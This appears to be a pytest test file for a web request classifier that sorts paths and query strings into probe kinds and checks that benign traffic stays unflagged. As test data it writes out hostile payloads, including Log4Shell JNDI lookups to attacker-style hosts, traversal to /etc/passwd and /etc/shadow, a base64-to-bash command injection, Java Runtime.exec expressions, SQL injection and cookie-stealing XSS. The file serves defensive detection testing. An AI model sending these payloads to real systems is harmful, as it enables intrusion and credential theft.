"""node.signatures.probes: probe kinds, benign traffic that must stay None, lists, hostile input."""

import re
from importlib import resources

import pytest

from node.signatures import probes
from node.signatures.probes import PROBE_KINDS, has_traversal, payload_kind, probe_kind

# Ordinary API and browsing traffic: a false positive here blocks a customer.
BENIGN = [
    ("/", ""),
    ("/login", ""),
    ("/logout", ""),
    ("/index.html", ""),
    ("/robots.txt", ""),
    ("/sitemap.xml", ""),
    ("/favicon.ico", ""),
    ("/static/app.js", ""),
    ("/static/js/app.3f2a1b.js", ""),
    ("/scripts/main.js", ""),
    ("/assets/config.json", ""),
    ("/env.js", ""),
    ("/.well-known/acme-challenge/FMuukC2JOJ5HKmLBujjE", ""),
    ("/.well-known/security.txt", ""),
    ("/.well-known/openid-configuration", ""),
    ("/api/products/42", ""),
    ("/api/products/42/reviews", "page=2&per_page=50"),
    ("/api/v1/users/550e8400-e29b-41d4-a716-446655440000", ""),
    ("/api/v1/users/me", ""),
    ("/api/admin-settings", ""),
    ("/api/admin/users", ""),
    ("/api/admin", ""),
    ("/admin", ""),
    ("/dashboard", ""),
    ("/console", ""),
    ("/api/export", "format=csv"),
    ("/api/backup", ""),
    ("/api/config", ""),
    ("/api/env", ""),
    ("/api/password", ""),
    ("/api/users/me/passwd", ""),
    ("/api/vendors/12", ""),
    ("/api/sites/all", ""),
    ("/exchange/rates", "base=EUR"),
    ("/api/domains/example.pl", ""),
    ("/api/download/setup.exe", ""),
    ("/api/files/report.pdf", ""),
    ("/api/files/archive.zip", ""),
    ("/data/migrations/1548957970627_remove-db-version.sql", ""),
    ("/actuator/health", ""),
    ("/actuator/info", ""),
    ("/actuator/prometheus", ""),
    ("/health", ""),
    ("/metrics", ""),
    ("/graphql", ""),
    ("/api/webhooks/gitlab", ""),
    ("/gitlab/webhook", ""),
    ("/wiki/Foo_(bar)", ""),
    ("/api/users/o'brien", ""),
    ("/api/cart/items", "ids=1,2,3"),
    ("/api/search", "q=blue+shoes&page=2"),
    ("/api/search", "q=it%27s+a+test"),
    ("/api/search", "q=select+a+product"),
    ("/api/search", "q=rock+%26+roll"),
    ("/api/search", "q=C%2B%2B+books"),
    ("/api/search", "q=%E4%BD%A0%E5%A5%BD"),
    ("/api/orders", "sort=-created_at&limit=50"),
    ("/api/orders", "created_after=2024-01-01T00:00:00Z"),
    ("/api/items", "filter=name%20eq%20%27x%27"),
    ("/api/math", "expr=1%3C2"),
    ("/api/redirect", "next=../dashboard"),
    ("/api/redirect", "next=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc"),
    ("/odata/Products", "$filter=substring(Name,1,2) eq 'ab'"),
    ("/odata/Products", "$filter=toupper(Name) eq 'AB'&$top=10"),
    ("/api/emails", "to=john.doe%40example.com"),
    ("/api/geo", "lat=48.85&lon=2.35"),
    ("/api/token", "grant_type=client_credentials"),
    ("/app/login", ""),
    ("/users/new", ""),
    ("/api/v2/ping", ""),
    ("/api/search", "q=java.lang.Runtime+exec"),        # a developer's search, no OGNL syntax
    ("/api/docs", "q=%24%7Bversion%7D+placeholder"),   # ${version}: not a lookup we know
    ("/api/templates", "body=Hello+%24%7Bname%7D"),
]


@pytest.mark.parametrize(("path", "query"), BENIGN)
def test_benign_is_none(path, query):
    assert probe_kind(path, query) is None


@pytest.mark.parametrize(("referer", "kind"), [
    ("${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.binaryedge.io:80/callback}", "cve"),
    ("https://shop.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "cve"),
    ("https://shop.example/search?f=%7B%22color%22%3A%22red%22%7D", None),   # JSON in a URL
    ("https://www.google.com/search?q=select+shoes+from+catalogue", None),
    ("https://shop.example/a/../b", None),          # one relative climb: ordinary
])
def test_payload_kind_of_a_referer(referer, kind):
    assert payload_kind(referer) == kind


PROBES = [
    # sensitive files
    ("/.env", "", "sensitive_file"),
    ("/api/.env", "", "sensitive_file"),
    ("/.env.production", "", "sensitive_file"),
    ("/.git/config", "", "sensitive_file"),
    ("/.git/HEAD", "", "sensitive_file"),
    ("/.svn/entries", "", "sensitive_file"),
    ("/.aws/credentials", "", "sensitive_file"),
    ("/.ssh/id_rsa", "", "sensitive_file"),
    ("/wp-config.php.bak", "", "sensitive_file"),
    ("/wp-config.php", "", "sensitive_file"),
    ("/backup.sql", "", "sensitive_file"),
    ("/db/dump.sql", "", "sensitive_file"),
    ("/site.sql.gz", "", "sensitive_file"),
    ("/backup.tar.gz", "", "sensitive_file"),
    ("/www.zip", "", "sensitive_file"),
    ("/index.php.bak", "", "sensitive_file"),
    ("/index.php~", "", "sensitive_file"),
    ("/.bash_history", "", "sensitive_file"),
    ("/.htpasswd", "", "sensitive_file"),
    ("/.DS_Store", "", "sensitive_file"),
    ("/server-status", "", "sensitive_file"),
    ("/phpinfo.php", "", "sensitive_file"),
    ("/storage/logs/laravel.log", "", "sensitive_file"),
    ("/wp-content/debug.log", "", "sensitive_file"),
    ("/docker-compose.yml", "", "sensitive_file"),
    # admin interfaces
    ("/phpmyadmin/", "", "admin_interface"),
    ("/phpMyAdmin-4.9.0/index.php", "", "admin_interface"),
    ("/pma/", "", "admin_interface"),
    ("/wp-login.php", "", "admin_interface"),
    ("/blog/wp-admin/", "", "admin_interface"),
    ("/manager/html", "", "admin_interface"),
    ("/solr/admin/cores", "", "admin_interface"),
    ("/administrator/index.php", "", "admin_interface"),
    ("/adminer.php", "", "admin_interface"),
    ("/+CSCOE+/logon.html", "", "admin_interface"),
    ("/jmx-console/", "", "admin_interface"),
    # backdoors
    ("/shell.php", "", "backdoor"),
    ("/c99.php", "", "backdoor"),
    ("/r57.php", "", "backdoor"),
    ("/wp-content/uploads/wso.php", "", "backdoor"),
    ("/Worse_Linux_Shell.php", "", "backdoor"),
    # path traversal, raw and encoded
    ("/../../etc/passwd", "", "path_traversal"),
    ("/static/..%2f..%2f..%2fetc/passwd", "", "path_traversal"),
    ("/%2e%2e/%2e%2e/etc/shadow", "", "path_traversal"),
    ("/%252e%252e%252fwindows/win.ini", "", "path_traversal"),
    ("/..%5c..%5cboot.ini", "", "path_traversal"),
    ("/files/..;/admin", "", "path_traversal"),
    ("/%c0%ae%c0%ae/etc/passwd", "", "path_traversal"),
    ("/c:/win.ini", "", "path_traversal"),
    ("/%2fetc%2fpasswd", "", "path_traversal"),
    ("/download", "file=../../../etc/passwd", "path_traversal"),
    ("/download", "file=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "path_traversal"),
    ("/index.php", "page=php://filter/convert.base64-encode/resource=index", "path_traversal"),
    ("/view", "f=/proc/self/environ", "path_traversal"),
    # known exploits
    ("/", "x=${jndi:ldap://evil.example/a}", "cve"),
    ("/", "x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D", "cve"),
    ("/${${lower:j}ndi:ldap://x/a}", "", "cve"),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", "cve"),
    ("/icons/.%2e/%2e%2e/%2e%2e/etc/passwd", "", "cve"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", "cve"),
    ("/laravel/vendor/phpunit/phpunit/Util/PHP/eval-stdin.php", "", "cve"),
    ("/actuator/env", "", "cve"),
    ("/actuator/gateway/routes", "", "cve"),
    (
        "/index.php",
        "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
        "cve",
    ),
    ("/HNAP1/", "", "cve"),
    ("/boaform/admin/formLogin", "", "cve"),
    ("/GponForm/diag_Form", "images/", "cve"),
    ("/_ignition/execute-solution", "", "cve"),
    ("/cgi/networkDiag.cgi", "", "cve"),
    (
        "/php-cgi/php-cgi.exe",
        "%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
        "cve",
    ),
    ("/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "cve"),
    # technology not in use
    ("/wp-includes/wlwmanifest.xml", "", "technology"),
    ("/blog/wp-content/plugins/x/readme.txt", "", "technology"),
    ("/xmlrpc.php", "", "technology"),
    ("/default.aspx", "", "technology"),
    ("/login.jsp", "", "technology"),
    ("/cgi-bin/test.cgi", "", "technology"),
    ("/_vti_bin/shtml.dll", "", "technology"),
    # SQLi and XSS probes in the query or path
    ("/foo", "a=information_schema.tables", "sqli"),
    ("/foo", "id=1%27%20or%20%271%27=%271", "sqli"),
    ("/foo", "id=1+union+all+select+1,2,3--", "sqli"),
    ("/foo", "id=1%2F**%2Funion%2F**%2Fselect%2F**%2F1", "sqli"),
    ("/foo", "id=1;waitfor%20delay%20%270:0:5%27--", "sqli"),
    ("/foo", "a=sleep(5)", "sqli"),
    ("/foo", "a=%2527%2520or%25201%253D1", "sqli"),
    ("/api/users/1'%20or%20'1'='1", "", "sqli"),
    ("/odata/Products", "$filter=Name eq 'a' union select password from users", "sqli"),
    ("/foo", "a=<script>alert(1)</script>", "xss"),
    ("/foo", "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "xss"),
    ("/foo", "a=%3Csvg/onload=alert(1)%3E", "xss"),
    ("/foo", "url=javascript:alert(document.cookie)", "xss"),
    ("/foo", "a=%3Cp", "xss"),
    ("/search/<script>alert(1)</script>", "", "xss"),
    # expression-language / Java code execution payloads
    ("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime"
     "%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", "",
     "cve"),
    ("/", "search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec('id')%7D",
     "cve"),
    ("/", "search=%24%7Bdns%3Aaddress%7Cexample.com%7D", "cve"),
    ("/index.php", "login=$(echo${IFS}aWQ=|base64${IFS}-d|bash)", "cve"),
    ("/struts/a.action", "redirect:%25%7B%28%23_memberAccess%3D1%29%7D", "cve"),
    # known exploited endpoints
    ("/setup/setupadministrator.action", "", "cve"),
    ("/vendor/htmlawed/htmlawed/htmLawedTest.php", "", "cve"),
    ("/php/utils/createRemoteAppwebSession.php/watchTowr.js.map", "", "cve"),
    ("/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php", "", "cve"),
]


@pytest.mark.parametrize(("path", "query", "kind"), PROBES)
def test_probes(path, query, kind):
    assert probe_kind(path, query) == kind


@pytest.mark.parametrize(
    ("path", "query", "kind"),
    [
        # a known exploit that also climbs directories is reported as the exploit
        ("/cgi-bin/../../bin/sh", "", "cve"),
        ("/vendor/phpunit/src/eval-stdin.php", "", "cve"),
        # the path's kind outranks the query's lesser one
        ("/.env", "q=<script>", "sensitive_file"),
        ("/index.jsp", "q=../../etc/passwd", "path_traversal"),
    ],
)
def test_priority(path, query, kind):
    assert probe_kind(path, query) == kind


HOSTILE = [
    ("/" + "../" * 21846, ""),
    ("/" + "%" * 65535, ""),
    ("/" + "%2e%2e/" * 9362, ""),
    ("/" + "%25" * 21845, "x=" + "%27" * 21845),
    ("/a" * 32768, ""),
    ("/" + "%41a" * 16384, "q=" + "%41a" * 16384),
    ("/" + "(<" * 32768, "q=" + "(<'" * 21845),
    ("/api/x", "&".join(f"a{i}=%27{i}" for i in range(8000))),
    ("/" + "\udcff" * 1000, "q=" + "\udcff" * 1000),
    ("/" + "\x00" * 65536, "\x00" * 65536),
    ("/x", "=" * 65536),
    ("/x", "&" * 65536),
    ("/x", "a=" + "sleep(" * 10000),
    ("/x", "a=" + "<a" * 30000),
    ("\\" * 65536, ""),
    ("", "q=x"),
]


@pytest.mark.parametrize(("path", "query"), HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_input_is_bounded(path, query):
    assert probe_kind(path, query) in (*PROBE_KINDS, None)


def test_only_the_first_kib_is_scanned():
    assert probe_kind("/" + "a" * probes.MAX_SCAN + "/.env") is None
    assert probe_kind("/" + "a" * (probes.MAX_SCAN - 10) + "/.env") == "sensitive_file"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("../../etc", True),
        ("/var/www/../secret", True),
        ("..\\..\\windows", True),
        ("/etc/passwd", True),
        ("c:/windows/win.ini", True),
        ("php://input", True),
        ("../images/logo.png", False),
        ("..", False),
        ("1..10", False),
        ("https://example.com/a/b", False),
    ],
)
def test_has_traversal(value, expected):
    assert has_traversal(value) is expected


LIST_FILES = sorted(
    p.name for p in (resources.files("node") / "data").iterdir() if p.name.startswith("probe_")
)
_ENTRY = re.compile(r"(~.+|/\*.+|\*.+|/[^*]*|[^/*~][^*]*\*?)")


@pytest.mark.parametrize("filename", LIST_FILES)
def test_list_files(filename):
    text = (resources.files("node") / "data" / filename).read_text(encoding="utf-8")
    assert text.startswith("# Palisade:")
    header = "".join(line for line in text.splitlines() if line.startswith("#"))
    assert "source" in header.lower()
    entries = probes.read_list(filename)
    assert entries and len(entries) == len(set(entries)), "no duplicates"
    for e in entries:
        assert e == e.lower(), e
        if filename not in ("probe_sqli.txt", "probe_xss.txt"):
            assert _ENTRY.fullmatch(e), e


def test_every_probe_list_is_used():
    used = set(probes._LIST_FILES.values()) | {"probe_sqli.txt", "probe_xss.txt"}
    assert set(LIST_FILES) == used


def test_caches_are_bounded():
    for fn in (probes._path_rank, probes._query_rank, probes._segment_rank):
        assert fn.cache_info().maxsize == probes.CACHE_SIZE
